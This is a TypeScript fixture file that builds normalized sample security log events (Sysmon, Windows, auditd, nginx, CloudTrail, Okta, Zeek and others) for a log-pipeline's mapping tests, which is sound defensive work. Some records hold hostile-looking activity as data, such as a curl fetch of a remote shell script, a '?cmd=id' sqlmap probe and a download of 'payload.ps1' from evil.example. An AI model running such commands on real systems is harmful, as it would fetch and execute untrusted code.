/**
 * Realistic records of each family, normalized the way the pipeline does, for the mapping tests.
 * (Test support only: imported by *.test.ts files.)
 */
import type { NormalizedEvent } from '../../core/event.ts';
import { DEFAULT_INPUT_LIMITS } from '../../core/limits.ts';
import { normalizeRecord } from '../../normalize/normalize-record.ts';

const at = Date.UTC(2024, 0, 1);

export function eventOf(record: unknown, sourceType = 'auto'): NormalizedEvent {
  const text = typeof record === 'string' ? record : JSON.stringify(record);
  return normalizeRecord({ source: 'test', sourceType, receivedAt: at, text }, DEFAULT_INPUT_LIMITS);
}

export const sysmonProcessCreate = eventOf({
  EventID: 1, Channel: 'Microsoft-Windows-Sysmon/Operational', SourceName: 'Microsoft-Windows-Sysmon', Hostname: 'WS01.corp.local',
  '@timestamp': '2024-01-01T10:00:00.000Z', ProcessGuid: '{9cf03291-8c56-d23c-92ad-325a1a4db816}', ProcessId: '4200',
  Image: 'C:\\Windows\\System32\\cmd.exe', CommandLine: 'cmd.exe /c whoami', ParentImage: 'C:\\Windows\\explorer.exe',
  User: 'CORP\\alice', IntegrityLevel: 'High', LogonId: '0x3e7', OriginalFileName: 'Cmd.Exe',
  Hashes: 'SHA1=0AE1F9071C5E8FE4A69D3F671937935D242D8A6C,MD5=CCF1D1573F175299ADE01C07791A6541,IMPHASH=E96A73C7BF33A464C510EDE582318BF2',
});

export const security4688 = eventOf({
  EventID: 4688, Channel: 'security', SourceName: 'Microsoft-Windows-Security-Auditing', Hostname: 'DC01',
  '@timestamp': '2024-01-01T10:00:00.000Z', NewProcessName: 'C:\\Windows\\System32\\whoami.exe', NewProcessId: '0x73c',
  ProcessId: '0x1d20', ParentProcessName: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
  CommandLine: '"C:\\windows\\system32\\whoami.exe" /user', MandatoryLabel: 'S-1-16-12288', SubjectUserSid: 'S-1-5-21-1-2-3-1104',
  SubjectUserName: 'pgustavo', SubjectDomainName: 'THESHIRE', SubjectLogonId: '0x10a7df', TargetUserSid: 'S-1-0-0', TargetLogonId: '0x0',
});

export const security4624 = eventOf({
  EventID: 4624, Channel: 'Security', SourceName: 'Microsoft-Windows-Security-Auditing', Hostname: 'DC01',
  '@timestamp': '2024-01-01T10:00:00.000Z', LogonType: '3', TargetUserName: 'alice', TargetDomainName: 'CORP', IpAddress: '10.0.0.7',
  TargetLogonId: '0x11f1a90', LogonGuid: '{9cf03291-8c56-d23c-92ad-325a1a4db816}', AuthenticationPackageName: 'Kerberos',
});

/** evtx_dump's shape: unnamed `<Data>` elements of a classic PowerShell 400 event. */
export const powershellClassic400 = eventOf({
  Event: {
    System: { Provider: { '#attributes': { Name: 'PowerShell' } }, EventID: 400, Channel: 'Windows PowerShell', Computer: 'WS01',
      TimeCreated: { '#attributes': { SystemTime: '2024-01-01T10:00:00.000Z' } } },
    EventData: { Data: ['Available', 'None', '\tNewEngineState=Available\r\n\tHostName=ConsoleHost\r\n\tHostVersion=2.0\r\n\tHostApplication=powershell.exe -version 2'] },
  },
});

export const auditdExecve = eventOf('type=EXECVE msg=audit(1700000000.123:456): argc=3 a0="curl" a1="-s" a2="http://203.0.113.9/x.sh"');
export const auditdSyscall = eventOf('type=SYSCALL msg=audit(1700000000.123:456): arch=c000003e syscall=59 success=yes exit=0 a0=55d5 a1=55d6 a2=55d7 a3=0 items=2 ppid=1200 pid=1234 auid=1000 uid=0 gid=0 euid=0 comm="curl" exe="/usr/bin/curl" key="net_tools"\x1dARCH=x86_64 SYSCALL=execve AUID="alice" UID="root"');
export const sshdFailure = eventOf('<38>Nov 23 10:00:00 bastion sshd[42]: Failed password for root from 203.0.113.9 port 4000 ssh2');
export const nginxAccess = eventOf('203.0.113.9 - - [10/Oct/2023:13:55:36 +0000] "GET /admin/config.php?cmd=id HTTP/1.1" 404 153 "-" "sqlmap/1.7"', 'nginx');

export const cloudTrailLogin = eventOf({
  eventVersion: '1.08', eventTime: '2023-03-01T10:15:30Z', eventSource: 'signin.amazonaws.com', eventName: 'ConsoleLogin',
  awsRegion: 'us-east-1', sourceIPAddress: '203.0.113.9', userAgent: 'Mozilla/5.0', eventID: 'e1', eventType: 'AwsConsoleSignIn',
  userIdentity: { type: 'IAMUser', principalId: 'AIDAEXAMPLE', arn: 'arn:aws:iam::123456789012:user/alice', accountId: '123456789012', userName: 'alice' },
  requestParameters: { containerDefinitions: [{ name: 'a', command: ['sh', '-c', 'curl x'] }] },
  responseElements: { ConsoleLogin: 'Failure' }, additionalEventData: { MFAUsed: 'No' }, recipientAccountId: '123456789012',
});

export const oktaEvent = eventOf({
  uuid: 'u1', published: '2024-01-01T10:00:00.000Z', eventType: 'user.session.start', displayMessage: 'User login to Okta',
  severity: 'INFO', actor: { id: 'a1', type: 'User', alternateId: 'alice@example.com', displayName: 'Alice' },
  outcome: { result: 'FAILURE', reason: 'INVALID_CREDENTIALS' }, client: { ipAddress: '203.0.113.9' },
  target: [{ id: 't1', type: 'User', alternateId: 'bob@example.com', displayName: 'Bob' }],
});

export const gitHubEvent = eventOf({
  '@timestamp': 1704103200000, _document_id: 'd1', action: 'repo.destroy', actor: 'mallory', org: 'acme', repo: 'acme/secret',
});

export const zeekDns = eventOf({ _path: 'dns', ts: 1_690_000_000.25, uid: 'C1', 'id.orig_h': '10.0.0.5', 'id.orig_p': 50000,
  'id.resp_h': '192.0.2.53', 'id.resp_p': 53, proto: 'udp', query: 'evil.example', qtype_name: 'TXT', answers: ['198.51.100.1'] });
export const zeekHttp = eventOf({ _path: 'http', ts: 1_690_000_000.25, uid: 'C2', 'id.orig_h': '10.0.0.5', 'id.orig_p': 50001,
  'id.resp_h': '192.0.2.80', 'id.resp_p': 80, method: 'GET', host: 'evil.example', uri: '/payload.ps1?x=1', user_agent: 'curl/8.0', status_code: 200 });

export const azureSignIn = eventOf({
  time: '2024-01-01T10:00:00Z', resourceId: '/tenants/t1/providers/Microsoft.aadiam', operationName: 'Sign-in activity',
  category: 'SignInLogs', tenantId: 't1', resultType: '50126',
  properties: { ResultType: '50126', Status: { errorCode: 50126 }, AuthenticationRequirement: 'singleFactorAuthentication', userAgent: 'python-requests/2.31' },
});

export const macProcessStart = eventOf({
  '@timestamp': '2024-01-01T10:00:00Z', 'event.category': ['process'], 'event.type': ['start'],
  host: { os: { type: 'macos' } }, process: { executable: '/usr/bin/osascript', command_line: 'osascript -e "display dialog"' },
});
